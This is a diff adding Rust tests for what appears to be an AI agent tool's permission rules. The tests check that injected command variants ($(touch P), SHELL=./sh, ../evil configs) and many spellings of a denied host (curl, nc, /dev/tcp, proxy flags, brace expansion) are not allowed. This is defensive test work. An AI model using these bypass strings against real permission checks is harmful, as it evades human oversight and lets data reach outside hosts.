@@ -176,3 +176,77 @@ fn git_reads_without_running_what_a_repository_configures() {
         assert!(command.status().unwrap().success());
     }
 }
+
+/// What the rules decide about a command line in a trusted workspace.
+fn explained(house: &House, line: &str) -> String {
+    let arguments = json!({ "command": line }).to_string();
+    let said = house.run(&["permission", "explain", "cli_based_tool", &arguments]).code(0).stdout;
+    said.split(':').next().unwrap().to_owned()
+}
+
+#[test]
+fn a_rule_for_a_program_that_runs_code_is_not_for_words_that_become_code() {
+    let rule =
+        |command: &str| format!("[[rules]]\ndecision = \"allow\"\ncommand = \"{command}\"\n");
+    let commands = ["make test", "just", "npm run", "pytest", "eslint", "jest"];
+    let Some(house) = with_cli(&commands.map(rule).concat()) else { return };
+    house.run(&["trust"]).code(0);
+    for line in ["make test", "pytest -q", "pytest tests", "eslint src", "jest"] {
+        assert_eq!(explained(&house, line), "allow", "{line}");
+    }
+    for line in [
+        "make test 'test-$(touch${IFS}P)'",
+        "make test '`touch P`'",
+        "make test SHELL=./sh",
+        "make test -f ../evil.mk",
+        "make test -C ../evil",
+        "just '$(touch P)'",
+        "npm run 'x; touch P'",
+        "pytest ../evil",
+        "pytest /tmp/evil",
+        "pytest --rootdir=../evil",
+        "pytest -c ../evil/pytest.ini",
+        "pytest -p evil",
+        "eslint /tmp/evil",
+        "eslint --config ../evil.js src",
+        "jest --rootDir ../evil",
+        "cd ../evil && pytest",
+    ] {
+        assert_eq!(explained(&house, line), "ask", "{line}");
+    }
+}
+
+#[test]
+fn a_denied_host_is_found_in_every_spelling() {
+    let rules = "[[rules]]\ndecision = \"deny\"\nhost = \"evil.example\"\n\
+                 [[rules]]\ndecision = \"allow\"\ntool = \"cli_based_tool\"\n";
+    let Some(house) = with_cli(rules) else { return };
+    house.run(&["trust"]).code(0);
+    assert_eq!(explained(&house, "curl https://good.example/x"), "allow");
+    for line in [
+        "curl evil.example/x",
+        "curl -s EVIL.example",
+        "curl evil.example.:8080",
+        "curl http:/evil.example/x",
+        "curl //evil.example",
+        "wget evil.example",
+        "curl --proxy=evil.example good.example",
+        "curl -x evil.example:3128 good.example",
+        "curl --connect-to ::evil.example: good.example",
+        "curl --resolve good.example:443:evil.example good.example",
+        "scp a evil.example:b",
+        "rsync a evil.example::m",
+        "ssh evil.example ls",
+        "ssh -J evil.example good.example",
+        "git clone git@evil.example:r.git",
+        "git clone evil.example:r.git",
+        "nc evil.example 80",
+        "ping evil.example",
+        "echo x > /dev/tcp/evil.example/80",
+        "h=evil.example; curl $h",
+        "curl ev{i,o}l.example",
+        "bash -c 'curl evil.example'",
+    ] {
+        assert_ne!(explained(&house, line), "allow", "{line}");
+    }
+}
